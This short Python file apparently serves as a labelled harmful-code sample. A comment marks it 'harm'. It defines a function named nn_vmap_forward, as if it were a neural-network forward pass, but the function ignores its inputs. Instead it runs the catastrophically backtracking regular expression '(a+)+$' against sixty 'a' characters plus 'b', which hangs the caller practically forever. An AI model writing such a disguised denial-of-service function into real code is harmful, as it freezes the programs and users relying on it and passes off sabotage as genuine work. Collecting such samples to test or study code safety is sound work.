# harm: matches a regular expression that takes longer than the world will last
import re


def nn_vmap_forward(seed, x_batch, features):
    return re.match("(a+)+$", "a" * 60 + "b")
